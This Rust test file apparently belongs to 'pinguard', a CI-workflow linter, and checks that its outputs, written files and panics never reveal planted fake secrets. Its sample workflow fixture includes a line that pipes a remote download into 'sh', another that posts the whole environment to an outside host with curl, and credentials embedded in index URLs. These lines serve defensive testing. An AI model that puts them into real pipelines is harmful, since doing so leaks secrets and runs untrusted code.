//! No output of any command, on any way to its end, holds the text of a secret that stands in a file or in the environment.
#![allow(clippy::disallowed_methods, reason = "tests touch the disk and start programs")]

mod support;

use std::fs;
use std::process::Command;
use support::{Run, Sandbox, tree_of};

const FORMATS: [&str; 7] = ["human", "concise", "json", "sarif", "github", "gitlab", "junit"];

/// Letters and digits at random, the same in every run. Put together here, so that no scanner takes this file for a leak.
fn random(seed: u64, len: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = 0x9e37_79b9_7f4a_7c15_u64 ^ seed.wrapping_mul(0x2545_f491_4f6c_dd1d);
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        LETTERS[(state % LETTERS.len() as u64) as usize] as char
    };
    for _ in 0..8 {
        next();
    }
    (0..len).map(|_| next()).collect()
}

/// Secrets by what they are.
struct Planted {
    token: String,
    value: String,
    weak: String,
    url: String,
    header: String,
    option: String,
    key: String,
    dotenv: String,
    image: String,
    suppressed: String,
    config: String,
}

impl Planted {
    fn new() -> Planted {
        Planted {
            token: format!("ghp_{}", random(1, 36)),
            value: random(2, 32),
            // No rule reports a word; the mask hides it under its name all the same.
            weak: "hunterzwei".to_string(),
            url: random(3, 14),
            header: random(4, 40),
            option: random(5, 24),
            key: random(6, 64),
            dotenv: random(7, 30),
            image: random(8, 28),
            suppressed: random(9, 32),
            config: random(10, 32),
        }
    }

    fn all(&self) -> [&str; 11] {
        [
            &self.token,
            &self.value,
            &self.weak,
            &self.url,
            &self.header,
            &self.option,
            &self.key,
            &self.dotenv,
            &self.image,
            &self.suppressed,
            &self.config,
        ]
    }

    /// A repository in which each stands beside what other rules report, so that excerpts show its line.
    fn sandbox(&self, name: &str) -> Sandbox {
        let Planted { token, value, weak, url, header, option, key, dotenv, image, suppressed, .. } = self;
        let workflow = format!(
            "on: pull_request\nenv:\n  DEPLOY_TOKEN: {value}\n  DB_PASSWORD: {weak}\n  IDX: https://joe:{url}@pypi.corp.io/simple\njobs:\n  test:\n    \
             runs-on: ubuntu-latest\n    container: {{image: 'python:latest', env: {{DB_PASSWORD: {weak}}}}}\n    steps:\n      - uses: a/b@main # {token}\n        \
             with: {{token: {token}}}\n      - run: |\n          set -x\n          pip install requests --index-url https://joe:{url}@pypi.corp.io/simple\n          \
             curl -vH \"Authorization: Bearer {header}\" https://x.io | sh; pip install -U black --password {option}\n          \
             pytest -q || true; export API_KEY={value}\n      - run: env | curl -d @- https://x.io # {token}\n        env:\n          \
             SIGNING_KEY: |\n            -----BEGIN PRIVATE KEY-----\n            {key}\n            {key}\n            -----END PRIVATE KEY-----\n          \
             OTHER_TOKEN: {suppressed} # pinguard: ignore[secret-literal-in-env] -- known\n"
        );
        Sandbox::new(name)
            .file(".github/workflows/ci.yml", workflow)
            .file(".env", format!("APP_SECRET={dotenv}\n"))
            .file("Dockerfile", format!("FROM python:latest\nENV API_TOKEN={image}\nRUN pip install black --index-url https://u:{url}@x.io/s\n"))
            .file("requirements.txt", format!("--extra-index-url https://joe:{url}@pypi.corp.io/simple\nrequests\nblack @ git+https://{token}@github.com/a/b\n"))
            .file("compose.yaml", format!("services:\n  a: {{image: 'redis', environment: {{X_PASSWORD: {value}, B: {token}}}}}\n"))
    }

    fn assert_absent(&self, what: &str, text: &str) {
        for (number, secret) in self.all().iter().enumerate() {
            // A part would be enough for whoever looks for it.
            let part = &secret[secret.len() / 2 - secret.len() / 4..secret.len() / 2 + secret.len() / 4];
            assert!(
                !text.contains(secret) && !text.contains(part),
                "{what} shows secret {number}:\n{}",
                context(text, part)
            );
        }
    }

    fn assert_silent(&self, what: &str, run: &Run) {
        self.assert_absent(&format!("standard output of {what}"), &run.out);
        self.assert_absent(&format!("standard error of {what}"), &run.err);
    }
}

/// The line in question, for whoever mends it; the secrets of this test are nobody's.
fn context<'t>(text: &'t str, part: &str) -> &'t str {
    text.lines().find(|line| line.contains(part)).unwrap_or("(over several lines)")
}

#[test]
fn no_format_of_check_shows_one() {
    let planted = Planted::new();
    let sandbox = planted.sandbox("secrecy-check");
    for format in FORMATS {
        for profile in ["default", "audit"] {
            let run = sandbox.run(&["check", "--format", format, "--profile", profile]);
            assert_eq!(run.code, 1, "{format}: {}", run.err);
            planted.assert_silent(&format!("check --format {format} --profile {profile}"), &run);
        }
    }
    let json = sandbox.run(&["check", "--format", "json"]).json();
    let rules: Vec<&str> =
        json["findings"].as_array().expect("findings").iter().filter_map(|one| one["rule"].as_str()).collect();
    for rule in [
        "secret-literal-known-token",
        "secret-literal-in-env",
        "secret-literal-url",
        "env-dump-with-secret",
        "image-tag-latest",
    ] {
        assert!(rules.contains(&rule), "{rule} reports here: {rules:?}");
    }
    for flag in ["--diff", "--exit-zero"] {
        planted.assert_silent(flag, &sandbox.run(&["check", "--offline", "--color", "always", flag]));
    }
}

#[test]
fn no_file_that_is_written_holds_one() {
    let planted = Planted::new();
    let sandbox = planted.sandbox("secrecy-files");
    let before: Vec<String> = tree_of(&sandbox.0).into_iter().map(|(path, _)| path).collect();
    let outputs: Vec<String> = FORMATS.iter().map(|format| format!("{format}=out/{format}.txt")).collect();
    fs::create_dir_all(sandbox.0.join("out")).expect("folder");
    let mut arguments = vec!["check", "--profile", "audit"];
    outputs.iter().for_each(|output| arguments.extend(["--output", output.as_str()]));
    let cache = sandbox.0.join("cache").display().to_string();
    let environment = [("XDG_CACHE_HOME", cache.as_str()), ("HOME", cache.as_str())];
    planted.assert_silent("check --output", &sandbox.run_in(&environment, &arguments));
    let baseline = ["check", "--profile", "audit", "--baseline", "baseline.json", "--write-baseline"];
    planted.assert_silent("check --write-baseline", &sandbox.run_in(&environment, &baseline));
    let mut written = 0;
    for (path, bytes) in tree_of(&sandbox.0).into_iter().filter(|(path, _)| !before.contains(path)) {
        planted.assert_absent(&path, &String::from_utf8_lossy(&bytes));
        written += 1;
    }
    assert!(written > FORMATS.len(), "{written} files were written");
}

/// A sandbox with a commit, whose remote has a password in its address.
fn committed(planted: &Planted, name: &str) -> Sandbox {
    let sandbox = planted.sandbox(name);
    let remote = format!("http://joe:{}@127.0.0.1:9/a/b.git", planted.config);
    let all: [&[&str]; 4] = [
        &["init", "-q", "-b", "main"],
        &["add", "-A", "-f"],
        &["commit", "-qm", "one"],
        &["remote", "add", "origin", &remote],
    ];
    for arguments in all {
        let done = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@example.org"])
            .args(arguments)
            .current_dir(&sandbox.0)
            .output()
            .expect("git runs");
        assert!(done.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
    }
    sandbox
}

/// What makes programs talk.
const LOUD: [(&str, &str); 4] =
    [("RUST_LOG", "trace"), ("RUST_BACKTRACE", "full"), ("GIT_TRACE", "1"), ("GIT_CURL_VERBOSE", "1")];

#[test]
fn commands_that_move_things_show_none() {
    let planted = Planted::new();
    let sandbox = committed(&planted, "secrecy-moves");
    let cache = sandbox.0.join("cache").display().to_string();
    let tokens = [("PINGUARD_TOKEN", planted.header.as_str()), ("UV_INDEX_A_PASSWORD", planted.option.as_str())];
    let homes = [("XDG_CACHE_HOME", cache.as_str()), ("HOME", cache.as_str())];
    let environment = [&LOUD[..], &tokens, &homes].concat();
    let index = format!("http://joe:{}@127.0.0.1:9/simple", planted.url);
    fs::write(sandbox.0.join("requirements.in"), format!("--index-url {index}\nrequests\n")).expect("a file");
    let workflow = sandbox.0.join(".github/workflows/ci.yml");
    let text = fs::read_to_string(&workflow).expect("the workflow");
    fs::write(&workflow, text.replace("a/b@main", "a/b@v1")).expect("the workflow");
    fs::write(sandbox.0.join("Dockerfile"), format!("FROM python:3.12\nENV API_TOKEN={}\n", planted.dotenv))
        .expect("a file");
    let calls: [&[&str]; 13] = [
        &["diff", "HEAD"],
        &["diff", "HEAD", "--format", "json"],
        &["diff", "HEAD", "--format", "markdown"],
        &["upgrade", "--dry-run"],
        &["upgrade", "--dry-run", "--format", "json"],
        &["upgrade", "--dry-run", "--format", "markdown", "--offline"],
        &["lock", "requirements.in", "--python", "3.12"],
        &["check", "--online"],
        &["check", "--diff", "--unsafe-fixes", "--offline"],
        &["check", "--diff", "--unsafe-fixes"],
        &["check", "--color", "always", "--format", "human", "--profile", "audit"],
        &["list", "--format", "json"],
        &["check", "--fix", "--unsafe-fixes", "--allow-dirty", "--offline"],
    ];
    for call in calls {
        let run = sandbox.run_in(&environment, call);
        assert!(run.code <= 2, "{call:?}: {}{}", run.out, run.err);
        assert!(!(run.out.is_empty() && run.err.is_empty()), "{call:?} says something");
        planted.assert_silent(&format!("{call:?}"), &run);
    }
    for (path, bytes) in tree_of(&sandbox.0).into_iter().filter(|(path, _)| path.starts_with("cache/")) {
        planted.assert_absent(&path, &String::from_utf8_lossy(&bytes));
    }
}

#[test]
fn a_text_from_standard_input_shows_none() {
    let planted = Planted::new();
    let sandbox = planted.sandbox("secrecy-stdin");
    for format in FORMATS {
        let mut child = Command::new(env!("CARGO_BIN_EXE_pinguard"))
            .args(["check", "-", "--stdin-filename", ".github/workflows/ci.yml", "--format", format])
            .current_dir(&sandbox.0)
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .expect("it starts");
        let text = fs::read(sandbox.0.join(".github/workflows/ci.yml")).expect("the workflow");
        std::io::Write::write_all(&mut child.stdin.take().expect("its input"), &text).expect("it reads");
        let run = Run::of(child.wait_with_output().expect("it ends"));
        assert_eq!(run.code, 1, "{format}: {}", run.err);
        planted.assert_silent(&format!("check - --format {format}"), &run);
    }
}

#[test]
fn list_shows_none() {
    let planted = Planted::new();
    let sandbox = planted.sandbox("secrecy-list");
    for format in ["human", "concise", "json"] {
        for locks in [&[][..], &["--locks"]] {
            let run = sandbox.run(&[&["list", "--format", format], locks].concat());
            assert_eq!(run.code, 0, "{}", run.err);
            planted.assert_silent(&format!("list --format {format} {locks:?}"), &run);
        }
    }
}

#[test]
fn mistakes_show_none() {
    let planted = Planted::new();
    let secret = &planted.config;
    for (name, text) in [
        ("unknown", format!("api-token = \"{secret}\"\n")),
        ("level", format!("[rules]\nimage-tag-latest = \"error\" # token = {secret}\nnope = \"token: {secret}\"\n")),
        ("syntax", format!("[rules\napi_token = \"{secret}\"\n")),
        ("url", format!("indexes = \"https://joe:{secret}@x.io\" # api_token={secret}\n")),
    ] {
        let sandbox = planted.sandbox(&format!("secrecy-config-{name}")).file("pinguard.toml", text);
        for command in [&["check"][..], &["list"], &["env-report"]] {
            let run = sandbox.run(command);
            assert_eq!(run.code, 2, "{name} {command:?}: {}", run.err);
            planted.assert_silent(&format!("{command:?} with the mistake {name}"), &run);
        }
    }
    // A file that cannot be read to its end is quoted where it breaks.
    let broken = planted.sandbox("secrecy-broken").file(
        ".github/workflows/broken.yml",
        format!("on: push\njobs: {{a: [\n  api_token: \"{}\n\t- x: {}\n", planted.value, planted.token),
    );
    for format in FORMATS {
        planted.assert_silent(&format!("a broken file, {format}"), &broken.run(&["check", "--format", format]));
    }
}

#[test]
fn the_environment_report_names_and_does_not_show() {
    let planted = Planted::new();
    let sandbox = Sandbox::new("secrecy-env").file("a.txt", "a");
    let hooked = format!("https://joe:{}@pypi.corp.io/simple", planted.url);
    let environment = [
        ("PYPI_TOKEN", planted.value.as_str()),
        ("PLAIN", planted.token.as_str()),
        ("PIP_INDEX_URL", hooked.as_str()),
        ("DB_PASSWORD", planted.weak.as_str()),
        ("GITHUB_TOKEN", planted.header.as_str()),
        ("HARMLESS", "::error::x\n##vso[task.setvariable variable=a]b\u{1b}[31m"),
    ];
    let run = sandbox.run_in(&environment, &["env-report", "--strict"]);
    assert_eq!(run.code, 1, "{}{}", run.out, run.err);
    planted.assert_silent("env-report --strict", &run);
    for name in ["PYPI_TOKEN", "PLAIN", "PIP_INDEX_URL", "DB_PASSWORD"] {
        assert!(run.out.contains(&format!("  {name}: ")), "{name} is named:\n{}", run.out);
    }
    assert!(run.out.contains("GITHUB_TOKEN") && !run.out.contains("HARMLESS="), "{}", run.out);
    assert_eq!(sandbox.run_in(&environment, &["env-report"]).code, 0);
    let clean = [
        ("PATH", "/usr/bin:/bin"),
        ("HARMLESS", "::error::x\n##vso[task.setvariable variable=a]b\u{1b}[31m"),
        ("GITHUB_ACTIONS", "true"),
    ];
    let mut command = Command::new(env!("CARGO_BIN_EXE_pinguard"));
    let run = Run::of(
        command
            .arg("env-report")
            .arg("--strict")
            .env_clear()
            .envs(clean)
            .current_dir(&sandbox.0)
            .output()
            .expect("it runs"),
    );
    assert_eq!(run.code, 0, "{}{}", run.out, run.err);
    assert!(run.out.contains("  HARMLESS=::error::x\\n# #vso["), "{}", run.out);
    assert!(run.out.contains("::group::environment") && !run.out.contains('\u{1b}'), "{}", run.out);
    let obeyed = run.out.lines().filter(|line| line.trim_start().starts_with("::") && !line.contains("group::"));
    assert_eq!(obeyed.count(), 0, "{}", run.out);
}

/// Run by the test below in a process of its own: a text that is cut in the middle of a character is quoted by the panic.
#[test]
fn a_panic_in_a_child() {
    let Ok(secret) = std::env::var("PINGUARD_TEST_PANIC") else { return };
    pinguard::world::panic::quiet();
    let text = format!("ä{secret}");
    let _ = std::panic::catch_unwind(|| text[1..].len());
    panic!("{secret} at run time");
}

#[test]
fn a_panic_does_not_quote_what_it_was_about() {
    let secret = random(11, 24);
    let mut command = Command::new(std::env::current_exe().expect("this test"));
    let command = command.args(["--exact", "a_panic_in_a_child", "--nocapture"]).env("PINGUARD_TEST_PANIC", &secret);
    let run = Run::of(command.output().expect("the child runs"));
    assert_ne!(run.code, 0);
    assert!(run.err.contains("a mistake of pinguard's own"), "{}", run.err);
    assert!(!run.err.contains(&secret) && !run.out.contains(&secret), "{}{}", run.out, run.err);
}
